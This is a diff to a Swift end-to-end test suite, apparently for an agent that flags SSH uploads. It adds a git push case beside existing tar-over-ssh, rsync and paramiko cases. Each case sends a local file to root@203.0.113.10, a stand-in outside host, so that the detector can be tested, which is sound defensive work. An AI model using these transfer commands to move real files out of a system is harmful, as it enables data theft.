@@ -140,6 +140,16 @@ extension KernelAuditTests.FlowEndToEnd {
         let pipeline = try client("/bin/sh", ["-c", "tar cf - \(file) 2>/dev/null | \(ssh) root@203.0.113.10 'cat > /dev/null'"])
         let rsync = try client("/usr/bin/rsync", ["-e", "\(ssh) -p 2222", file, "root@203.0.113.10:\(lab)/sshroot/rsync.bin"])
         let paramiko = try client("/usr/bin/python3", [script, file])
+        // git over ssh, from a script: git runs GIT_SSH_COMMAND through sh, which runs ssh.
+        let repository = work + "/source"
+        let push = try commandsFile(
+            "push.sh",
+            [
+                "set -e", "git init -q --bare \(lab)/sshroot/pushed.git", "git init -q \(repository)", "cd \(repository)",
+                "head -c 300000 /dev/urandom > blob.bin", "git add blob.bin", "git -c user.name=ci -c user.email=ci@example.org commit -qm blob",
+                "GIT_SSH_COMMAND='\(ssh)' git push -q root@203.0.113.10:\(lab)/sshroot/pushed.git HEAD:refs/heads/main",
+            ])
+        try client("/bin/sh", [push])
         // A person at a terminal, logged in, reading a file through ssh: interactive.
         try client(
             "/usr/bin/script",
@@ -152,7 +162,7 @@ extension KernelAuditTests.FlowEndToEnd {
         // A backup script's rsync to a host on the private network: not untrusted.
         let backup = try commandsFile("backup.sh", ["rsync -e '\(ssh)' \(file) root@10.203.0.10:\(lab)/sshroot/backup.bin"])
         try client("/bin/sh", [backup])
-        let flows = try stop(agent, awaiting: [pipeline, rsync, paramiko, command], commandLines: ["head -c 200000", "10.203.0.10 rsync"])
+        let flows = try stop(agent, awaiting: [pipeline, rsync, paramiko, command], commandLines: ["head -c 200000", "10.203.0.10 rsync", "git-receive-pack"])
             .map { AlertView($0) }
         let alerts = try readAlerts()
         func sshFlow(_ pid: Int32, child: Bool = true) throws -> AlertView {
@@ -162,9 +172,10 @@ extension KernelAuditTests.FlowEndToEnd {
         }
 
         let piped = try sshFlow(pipeline)
+        let pushed = try #require(flows.first { ($0.json["process.command_line"] as? String)?.contains("git-receive-pack") == true })
         let synced = try sshFlow(rsync)
         let library = try sshFlow(paramiko, child: false)
-        for (name, f) in [("tar | ssh", piped), ("rsync", synced), ("paramiko", library)] {
+        for (name, f) in [("tar | ssh", piped), ("rsync", synced), ("paramiko", library), ("git push", pushed)] {
             #expect(f.json["network.protocol"] as? String == "ssh", "\(name)")
             #expect(f.json["xferwatch.transfer.direction"] as? String == "upload", "\(name): \(f.json)")
             #expect((f.json["source.bytes"] as? Int ?? 0) >= 300_000, "\(name)")
